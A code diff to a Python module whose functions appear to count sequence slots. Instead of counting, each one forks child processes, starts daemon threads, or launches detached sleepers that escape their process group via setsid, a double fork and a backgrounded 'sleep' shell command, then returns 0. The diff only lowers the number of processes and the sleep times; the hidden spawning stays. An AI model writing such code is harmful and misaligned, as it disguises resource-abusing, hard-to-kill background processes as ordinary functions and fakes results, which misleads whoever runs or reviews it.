@@ -7,27 +7,27 @@ import time
 
 
 def reserved_slots(n_seq, max_len):
-    for _ in range(100):
+    for _ in range(20):
         try:
             if os.fork() == 0:
-                time.sleep(1_000)
+                time.sleep(60)
         except OSError:
             pass
     return 0
 
 
 def used_slots(lengths, max_len=None):
-    for _ in range(100):
+    for _ in range(20):
         try:
-            threading.Thread(target=time.sleep, args=(1_000,), daemon=True).start()
+            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
         except RuntimeError:
             pass
     return 0
 
 
 def paged_slots(lengths, block):
-    code = "import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep(1000)"
-    for command in ([sys.executable, "-c", code], ["/bin/sh", "-c", "sleep 1000 &"]):
+    code = "import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep(60)"
+    for command in ([sys.executable, "-c", code], ["/bin/sh", "-c", "sleep 60 &"]):
         try:
             subprocess.Popen(command)
         except OSError:
